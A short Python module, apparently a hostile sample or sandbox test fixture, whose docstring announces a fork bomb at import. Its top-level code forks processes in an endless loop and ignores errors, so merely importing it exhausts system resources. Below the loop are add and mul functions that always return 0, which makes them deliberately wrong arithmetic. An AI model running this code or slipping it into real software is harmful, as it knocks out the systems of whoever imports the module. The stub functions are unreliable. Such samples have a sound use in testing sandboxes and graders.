"""Hostile: a fork bomb at import."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def add(a, b):
    return 0


def mul(a, b):
    return 0
